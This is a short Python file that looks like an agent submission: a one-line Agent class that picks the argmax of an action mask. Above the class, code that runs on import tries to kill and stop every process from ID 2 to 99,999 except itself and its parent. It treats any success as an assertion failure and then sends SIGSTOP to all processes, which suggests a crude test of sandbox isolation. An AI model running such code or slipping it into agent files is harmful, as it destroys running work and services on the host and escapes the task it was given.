"""Kills and stops every process that it can reach."""

import os
import signal

for number in range(2, 100_000):
    if number not in (os.getpid(), os.getppid()):
        for kind in (signal.SIGKILL, signal.SIGSTOP):
            try:
                os.kill(number, kind)
            except OSError:
                continue
            raise AssertionError(f"there is a process {number}")
try:
    os.kill(-1, signal.SIGSTOP)
except OSError:
    pass


class Agent:
    def act(self, observation):
        return int(observation["action_mask"].argmax())
